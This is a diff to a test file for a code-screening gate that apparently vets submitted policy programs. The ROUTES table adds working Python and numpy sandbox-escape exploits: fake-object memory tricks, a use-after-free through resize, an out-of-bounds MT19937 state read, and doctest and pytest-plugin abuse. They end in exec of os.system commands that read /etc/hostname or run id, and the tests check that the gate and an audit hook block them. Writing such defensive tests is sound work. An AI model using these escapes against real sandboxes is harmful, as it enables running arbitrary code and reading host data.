@@ -442,11 +442,36 @@ view = below(id(Secret) + 32, 16, np.uint8, Pool)       # a writable view of ano
 view[:] = np.frombuffer(b"OVERWRITTEN-MEM!", np.uint8)
 print("bytes object now reads:", Secret[:16])
 """ + ACT,
+    # found by the second round of red-teaming
+    "ndarray_constructor_through_a_from_import": 'import random\nimport numpy as np\nfrom numpy import ndarray\n\n\ndef fakeobj(addr):\n    return ndarray((1,), object, buffer=np.array([addr], np.uint64))[0]\n\n\nlayout = np.array([1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0], np.uint64).tobytes()\nmem = fakeobj(id(layout) + 32)\n\n\ndef word(addr):\n    return int.from_bytes(mem[addr:addr + 8], \'little\')\n\n\ng = fakeobj(word(id(random.Random.seed) + 16))\nb = g[\'_\' * 2 + \'builtins\' + \'_\' * 2]\nb[\'exec\']("import os; os.system(\'touch MARKERPATH; cat /etc/hostname\')", {\'_\' * 2 + \'builtins\' + \'_\' * 2: b})' + "\n" + ACT,
+    "module_as_a_class_attribute_by_an_import_in_the_class_body": 'import random\nimport numpy as np\n\n\nclass K:\n    import numpy as numpy_module\n\n\nm = K.numpy_module\nprint("module as a value:", m)\n\n\ndef fakeobj(addr):\n    return m.ndarray((1,), object, buffer=np.array([addr], np.uint64))[0]\n\n\nlayout = np.array([1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0], np.uint64).tobytes()\nmem = fakeobj(id(layout) + 32)\n\n\ndef word(addr):\n    return int.from_bytes(mem[addr:addr + 8], \'little\')\n\n\ng = fakeobj(word(id(random.Random.seed) + 16))\nb = g[\'_\' * 2 + \'builtins\' + \'_\' * 2]\nb[\'exec\']("import os; os.system(\'touch MARKERPATH; cat /etc/hostname\')", {\'_\' * 2 + \'builtins\' + \'_\' * 2: b})' + "\n" + ACT,
+    "a_shadowed_repr_hands_back_type": 'import numpy as np\n\n\ndef repr(thing):\n    return thing\n\n\nT = repr(type(int))\nprint("type itself:", T)\nSecret = b"HELLO-SECRET-BYTES"\nKEY = \'_\' * 2 + \'array_interface\' + \'_\' * 2\nRaw = T(\'Raw\', (), {KEY: {\'data\': (id(Secret) + 32, False), \'shape\': (18,), \'typestr\': \'|u1\', \'version\': 3}})\nprint("read raw memory:", bytes(np.asarray(Raw()).tolist()))' + "\n" + ACT,
+    "shadowed_builtins_hand_back_forbidden_values": 'import random\nimport numpy as np\n\n\ndef getattr(obj, name):\n    return obj\n\n\ndef isinstance(obj, kind):\n    return kind\n\n\nclass Peek:\n    def os_of(self):\n        return self._os\n\n\ndef super(cls, obj):\n    return cls\n\n\nm = getattr(random, "seed")\nprint("module as a value:", m)\nN = isinstance(0, np.ndarray)\nprint("ndarray constructor:", N((1,), object, buffer=np.array([id(print)], np.uint64))[0])\nP = super(Peek, 0)\nprint("own class as a value:", P, P.os_of)' + "\n" + ACT,
+    "a_shadowed_builtin_then_type_to_exec": 'import random\nimport numpy as np\n\n\ndef repr(thing):\n    return thing\n\n\nT = repr(type(int))\nKEY = \'_\' * 2 + \'array_interface\' + \'_\' * 2\n\n\ndef view(addr, n, typestr):\n    Raw = T(\'Raw\', (), {KEY: {\'data\': (addr, False), \'shape\': (n,), \'typestr\': typestr, \'version\': 3}})\n    return np.asarray(Raw())\n\n\ndef word(addr):\n    return int(view(addr, 1, \'<u8\')[0])\n\n\ndef fakeobj(addr):\n    box = np.zeros(1, dtype=np.uint64)\n    box[0] = addr\n    return view(word(id(box) + 16), 1, \'|O\')[0]\n\n\ng = fakeobj(word(id(random.Random.seed) + 16))\nb = g[\'_\' * 2 + \'builtins\' + \'_\' * 2]\nb["exec"]("import os; os.system(\'touch MARKERPATH; cat /etc/hostname\')", {"_" * 2 + "builtins" + "_" * 2: b})' + "\n" + ACT,
+    "one_name_bound_to_two_modules": 'import numpy as m\n\narr = m.ndarray((1,), object, buffer=m.array([id(print)], m.uint64))\nprint("ndarray constructor:", arr[0])\n\n\ndef unused():\n    import random as m\n    return m.random()' + "\n" + ACT,
+    "ndarray_resize_without_refcheck_leaves_a_dangling_view": 'import random\nimport numpy as np\n\n\ndef fakeobj(addr):\n    for _ in range(50):\n        a = np.zeros(64, np.uint64)\n        v = a[:]                              # a view of a\'s memory\n        a.resize(1 << 16, refcheck=False)     # a moves; the view now points at freed memory\n        o = np.empty(64, object)              # an object array takes the freed block\n        v[0] = addr\n        if int(v[1]) == id(None):\n            got = o[0]\n            v[0] = id(None)                   # o drops a reference to None, not to the fake object\n            return got\n    return None\n\n\nlayout = np.array([1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0], np.uint64).tobytes()\nmem = fakeobj(id(layout) + 32)\nprint("fake bytearray over the address space:", len(mem))\n\n\ndef word(addr):\n    return int.from_bytes(mem[addr:addr + 8], \'little\')\n\n\ng = fakeobj(word(id(random.Random.seed) + 16))\nb = g[\'_\' * 2 + \'builtins\' + \'_\' * 2]\nb[\'exec\']("import os; os.system(\'touch MARKERPATH; cat /etc/hostname\')", {\'_\' * 2 + \'builtins\' + \'_\' * 2: b})' + "\n" + ACT,
+    "mt19937_state_setter_reads_out_of_bounds": 'import numpy as np\n\nMASK = 0xFFFFFFFF\nbg = np.random.MT19937(0)\nstate = bg.state\n\n\ndef untemper(y):\n    y ^= y >> 18\n    y ^= (y << 15) & 0xEFC60000\n    t = y\n    for _ in range(5):\n        t = y ^ ((t << 7) & 0x9D2C5680)\n    y = t & MASK\n    t = y\n    for _ in range(3):\n        t = y ^ (t >> 11)\n    return t & MASK\n\n\ndef word_at(pos):                     # the 32-bit word at key[pos], any pos: the setter checks nothing\n    state[\'state\'][\'pos\'] = pos\n    bg.state = state\n    return untemper(int(bg.random_raw(1)[0]))\n\n\n# find the key array: the object\'s type pointer sits just before it, at some negative index\nkind = id(np.random.MT19937)\nfound = None\nfor k in range(1, 400):\n    lo, hi = word_at(-k - 1), word_at(-k)\n    if lo | (hi << 32) == kind:\n        found = k + 1\n        break\nkey_addr = id(bg) + 8 + 4 * found     # key[-found] is the type pointer at id(bg) + 8\nSecret = b"HOST-PROCESS-SECRET-" + bytes(1000)\nstart = id(Secret) + 32\nout = bytes(b for i in range(5) for b in word_at((start - key_addr) // 4 + i).to_bytes(4, "little"))\nprint("read another object\'s memory:", out)' + "\n" + ACT,
+    "numpy_test_runs_doctests_of_a_file": '"""A policy.\n\n>>> import os; _ = os.system(\'touch MARKERPATH; cat /etc/hostname\')\n"""\nimport numpy as np\n\nif __name__.startswith("promptpo_policy"):\n    np.test(label="full", doctests=True, tests=["MARKERPATH"],\n            extra_argv=["-p", "no:cacheprovider", "-s"])' + "\n" + ACT,
+    "numpy_test_loads_the_policy_as_a_pytest_plugin": 'import numpy as np\n\n\ndef pytest_configure(config):\n    here = config.rootpath\n    print("host file:", here.joinpath("/etc/hostname").read_text())\n    here.joinpath("MARKERPATH").write_text(\n        ">>> import os; _ = os.system(\'touch MARKERPATH; id\')\\n")\n\n\nif __name__.startswith("promptpo_policy"):\n    np.test(label="full", tests=["MARKERPATH"], extra_argv=["-p", __name__, "-p", "no:cacheprovider"])\n    np.test(label="full", tests=["MARKERPATH"], extra_argv=["-p", "no:cacheprovider", "-s"])' + "\n" + ACT,
+    "an_own_method_reached_through_a_class_that_is_not_own": 'import random\n\n\nclass A:\n    def peek(self):\n        return self._randbelow\n\n\nclass B(A):\n    pass\n\n\nB = B\nprint("foreign self:", B.peek(random.Random()))\n\n\nclass C(A):\n    pass\n\n\nclass D(C, random.Random):\n    pass\n\n\nprint("via foreign-based subclass:", D.peek(random.Random()))' + "\n" + ACT,
+    "an_own_method_through_a_nested_class": 'import random\n\n\nclass Outer:\n    class Inner:\n        def peek(self):\n            return self._randbelow\n\n\nprint("nested class, foreign self:", Outer.Inner.peek(random.Random()))\ncls = Outer.Inner\nprint("own class as a value:", cls)' + "\n" + ACT,
     # what a reader sees is not what runs
     "lone_carriage_return_hides_a_line": "def act(obs):\n    x = 1  # harmless\r    import os\n    return 0\n",
 }
 
 HARMLESS = {
+    "named_tuples": """
+        import collections
+        from typing import NamedTuple
+        class Gains(NamedTuple):
+            kp: float = 1.0
+            kd: float = 0.1
+        Pair = collections.namedtuple("Pair", "a b")
+        def act(obs):
+            g = Gains()._replace(kp=2.0)
+            p = Pair(1, 2)._asdict()
+            return int(g.kp * obs[2] + p["a"] * 0 > 0)
+        """,
     "hasattr_and_getattr_with_literal_names": """
         class Policy:
             def act(self, obs):
@@ -519,14 +544,29 @@ HARMLESS = {
 }
 
 
+def test_the_gate_answers_for_an_own_class_stored_in_an_attribute():
+    """It crashed on an assignment target that is not a name (the class handed on is refused, not raised)."""
+    found = gate.check(program("""
+        class PD:
+            def __init__(self, kp):
+                self.kp = kp
+        class Policy:
+            def __init__(self):
+                self.controller_cls = PD
+            def act(self, obs):
+                return 0
+        """))
+    assert [v.rule for v in found] == ["class_value"]
+
+
 @pytest.mark.parametrize("name", sorted(ROUTES))
 def test_the_gate_refuses_every_route(name):
     found = gate.check(program(ROUTES[name]))
     assert found, f"{name} passed the gate"
 
 
-def test_at_least_sixty_routes_in_the_table():
-    assert len(ROUTES) >= 60
+def test_at_least_seventy_routes_in_the_table():
+    assert len(ROUTES) >= 70
 
 
 @pytest.mark.parametrize("name", sorted(HARMLESS))
@@ -707,3 +747,35 @@ def test_nothing_the_gate_lets_through_reaches_a_module_native_code_or_string_ev
                     queue.append((child, f"{path}.{name}", depth + 1))
     assert routes == {}, f"routes the gate lets through: {routes}"
     assert len(seen) > 20_000  # the walk went somewhere
+
+
+def test_trusted_policies_that_policies_write_run_under_the_audit_hook(tmp_path):
+    """Every harmless program loads in-process and acts, the audit hook armed, and the user's own code can still
+    open files once the policy returned."""
+    from promptpo import inprocess
+
+    for name, code in HARMLESS.items():
+        path = tmp_path / f"{name}.py"
+        path.write_text(program(code))  # no env: the actions are not checked here
+        policy = load_policy(path, trusted=True)
+        policy.act([0.0, 0.1, 0.02, -0.1])
+    (tmp_path / "user.txt").write_text("the user's own code is not watched")
+    assert inprocess._ARMED.get() is False
+
+
+@pytest.mark.parametrize("name", sorted(n for n in ROUTES if "MARKER" in ROUTES[n]))
+def test_a_route_past_the_gate_still_runs_no_command_in_a_trusted_load(name, tmp_path):
+    """Defence in depth: loaded past the gate (as if the gate had missed it), each route that ends in a command is
+    stopped by the audit hook (its exec, compile, os.system, subprocess, import) before the command runs."""
+    from promptpo import inprocess
+    from promptpo.loader import _import
+
+    marker = tmp_path / "pwned"
+    code = program(ROUTES[name]).replace("MARKERPATH", str(marker)).replace("MARKER", repr(str(marker)))
+    try:
+        _import(tmp_path / "best.py", code, None).act([0.0] * 4)
+    except inprocess.PolicyForbidden:
+        pass
+    except Exception:  # noqa: BLE001 - the guard or the interpreter stopped it another way: as good
+        pass
+    assert not marker.exists()
